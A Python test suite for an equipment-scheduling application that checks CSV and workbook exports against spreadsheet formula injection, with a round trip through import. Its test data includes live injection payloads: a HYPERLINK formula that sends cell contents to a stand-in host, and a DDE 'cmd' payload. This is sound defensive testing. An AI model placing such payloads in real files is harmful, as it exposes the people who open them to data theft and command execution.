"""What leaves in a file is never a formula, and comes back as it was."""

from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from psycopg.types.json import Jsonb

from conftest import Cli
from equipment_scheduling.database import Connection
from equipment_scheduling.files.formulas import guard, guard_quoted, is_formula, unguard
from equipment_scheduling.files.importing import read_plant
from support.api_plant import Api
from support.relays import Relays, url_of

EXAMPLES = int(os.environ.get("SCHED_EXAMPLES", "0"))
TEXTS = st.text(st.sampled_from("=+-@\t\r\n;,'\"15.e aé"), max_size=12)
EVIL = (
    '=HYPERLINK("http://x.example/?"&A1,"Press")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "'=1+1", "''-5",
    "'-5", "Press;=1+1;b", "A;'=1", "-", "+", "-5", "+1.5", "'quoted'", "a=b", "007", "#N/A", "#REF!", "-5 degrees",
)  # fmt: skip


def few(number: int) -> settings:
    """The same few examples in every run, or as many random ones as SCHED_EXAMPLES asks for."""
    return settings(
        max_examples=EXAMPLES or number, derandomize=not EXAMPLES, deadline=None, database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )  # fmt: skip


def is_taken_for_a_formula(text: str) -> bool:
    """What a spreadsheet does, wherever it thinks that a cell begins."""
    return any(
        cell.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"[+-](\d+(\.\d+)?)?", cell, re.ASCII)
        for cell in re.split(r"[;\t\r\n]", text)
    ) or text.startswith(("\t", "\r"))


@few(2000)
@given(text=TEXTS)
@example("-5;=x")
@example("'-5")
def test_a_guarded_text_is_no_formula_and_comes_back(text: str) -> None:
    assert not is_taken_for_a_formula(guard(text))
    assert unguard(guard(text)) == unguard(guard_quoted(text)) == text
    assert (guard(text) == text) or is_formula(text)


@few(300)
@given(texts=st.lists(TEXTS, min_size=20, max_size=20))
def test_the_database_does_the_same(texts: list[str], db: Connection) -> None:
    rows = db.execute(
        "select sched_engine.guard_formula(t) as guarded, sched_engine.unguard_formula(t) as plain,"
        " sched_engine.csv_cell(t) as cell from unnest(%s::text[]) with ordinality as u (t, nr) order by nr",
        [texts],
    ).fetchall()
    assert [(row["guarded"], row["plain"]) for row in rows] == [(guard(text), unguard(text)) for text in texts]
    for text, row in zip(texts, rows, strict=True):
        (cells,) = csv.reader(io.StringIO(row["cell"] + ",end\n", newline=""), strict=True)
        assert cells == [guard(text), "end"]


@pytest.fixture
def evil(plant: Connection) -> Connection:
    """A plant whose machines have such names and facts, such codes as may be, and such reasons for a stop."""
    plant.execute("update sched.resources set resource_code = '-M' where resource_code = 'M40'")
    for number, text in enumerate(EVIL, 1):
        plant.execute(
            "update sched.resources set resource_name = %s, metadata = %s where resource_code = %s",
            [text, Jsonb({"note": text, f"n{number}": "=1"}), f"M{number}"],
        )
    plant.execute(
        "select sched_engine.add_exception(sched_engine.resource_id('S'), 'maintenance', '2030-01-07 08:00Z',"
        " '2030-01-07 09:00Z', '=1+1')"
    )
    return plant


def texts_of(file: Path) -> list[str]:
    """Every cell of a CSV file."""
    with file.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_a_plant_comes_back_exactly(evil: Connection, cli: Cli, tmp_path: Path) -> None:
    """From CSV, from a workbook, and from CSV that somebody saved as a workbook."""
    url, query = url_of(evil), "select * from sched_engine.export_plant()"
    before = evil.execute(query).fetchall()
    files = [tmp_path / name for name in ("plant.csv", "plant.xlsx", "saved.xlsx")]
    for file in files[:2]:
        assert cli("resources", "export", str(file), url=url).code == 0
    assert [cell for cell in texts_of(files[0]) if is_taken_for_a_formula(cell)] == []
    assert "'=1" in texts_of(files[0]) and "-5" in texts_of(files[0]) and "'-M" in texts_of(files[0])
    assert not formulas(files[1])

    book = Workbook()
    with files[0].open(encoding="utf-8", newline="") as stream:
        for number, row in enumerate(csv.reader(stream), 1):
            for place, text in enumerate(row, 1):
                book["Sheet"].cell(number, place, text).data_type = "s"
    book.save(files[2])
    for file in files:
        counts = cli("resources", "import", str(file), "--format", "json", url=url).json[0]
        assert (counts["inserted"], counts["updated"], counts["unchanged"]) == (0, 0, 41), file
        assert {row["values"]["resource_name"] for row in read_plant(evil, file).rows} >= set(EVIL)
    evil.execute("update sched.resources set resource_name = 'x', metadata = '{}'")
    assert cli("resources", "import", str(files[0]), url=url).code == 0
    assert evil.execute(query).fetchall() == before


def formulas(file: Path | io.BytesIO) -> list[str]:
    """Cells of a workbook that are not the text or the number that they should be, or would not stay text."""
    return [
        cell.value
        for sheet in load_workbook(file)
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
        or (isinstance(cell.value, str) and is_formula(cell.value) and not cell.quotePrefix)
    ]


def test_files_of_the_plan(evil: Connection, cli: Cli, relay: Relays, tmp_path: Path) -> None:
    period = ("--from", "2030-01-07", "--to", "2030-01-08")
    for content in ("schedule", "availability"):
        file = tmp_path / f"{content}.csv"
        assert cli("export", content, str(file), *period, url=url_of(evil)).code == 0
        cells = texts_of(file)
        assert [cell for cell in cells if is_taken_for_a_formula(cell)] == []
        assert set(EVIL) <= {unguard(cell) for cell in cells}
        book = file.with_suffix(".xlsx")
        assert cli("export", content, str(book), *period, url=url_of(evil)).code == 0
        assert formulas(book) == []
        names = {row[1] for row in load_workbook(book)["Data"].iter_rows(values_only=True)}
        assert set(EVIL) <= names
    listed = cli("resources", "list", "--format", "csv", url=url_of(evil)).out
    assert [cell for row in csv.reader(io.StringIO(listed)) for cell in row if is_taken_for_a_formula(cell)] == []
    key = evil.execute("select sched_http.create_api_key('x', 'sched_viewer') as key").fetchone()
    assert key is not None
    answer = httpx.get(
        f"{relay().url}/export/schedule.xlsx",
        params={"from": "2030-01-07", "to": "2030-01-08"},
        headers={"X-API-Key": key["key"]},
        timeout=30,
    )
    assert formulas(io.BytesIO(answer.content)) == []


def test_over_http(busy_api: Api) -> None:
    """Files are guarded, and an import takes it back; pages of a view are for programs, and have texts as they are."""
    admin = busy_api("sched_admin")
    line = "resource_code,resource_name,resource_type,parent_code,requires_scheduling,metadata.note\n"
    body = f"{line}F-1,'=1+1,work_unit,JHB-L1,true,''-x\nF-2,-5,work_unit,JHB-L1,true,'plain'\n"
    made = admin.post("/rpc/import_resources", content=body, headers={"Content-Type": "text/plain"})
    assert made.json()["inserted"] == 2, made.text
    found = admin.get("/resources?resource_code=like.F-*&select=resource_name,metadata&order=resource_code").json()
    assert found == [
        {"resource_name": "=1+1", "metadata": {"note": "'-x"}},
        {"resource_name": "-5", "metadata": {"note": "'plain'"}},
    ]
    days = {"start_date": "2027-03-08", "end_date": "2027-03-09"}
    admin.post("/rpc/generate_schedules", json={**days, "regenerate": True}).raise_for_status()
    for name in ("export_schedule", "export_availability"):
        answer = admin.get(f"/rpc/{name}", params=days, headers={"Accept": "text/csv"})
        rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
        names = {row["resource_code"]: row["resource_name"] for row in rows}
        assert (names["F-1"], names["F-2"]) == ("'=1+1", "-5")
    page = admin.get("/resources?resource_code=eq.F-1&select=resource_name", headers={"Accept": "text/csv"})
    assert page.text.splitlines() == ["resource_name", "=1+1"]
